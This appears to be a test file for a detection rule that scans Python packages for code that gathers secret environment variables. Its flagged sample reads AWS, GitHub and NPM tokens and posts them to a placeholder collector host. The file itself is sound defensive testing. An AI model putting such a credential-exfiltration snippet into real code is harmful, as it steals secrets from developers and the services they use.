import { testRule } from '../../../../../test/builders/python-package.ts';
import { secretVariables } from './rule.ts';

testRule(secretVariables, {
  seen: {
    'tokens of three services':
      "import os, requests\nfound = [os.environ.get(k) for k in ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'NPM_TOKEN']]\nrequests.post('https://collector.example.invalid', json=found)",
  },
  unseen: {
    'tokens of one service':
      "import os, requests\na = os.environ.get('DEMO_TOKEN')\nb = os.environ.get('DEMO_SECRET')\nrequests.get('https://demo.invalid')",
    'no request':
      "import os\nfound = [os.environ.get(k) for k in ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'NPM_TOKEN']]",
  },
});
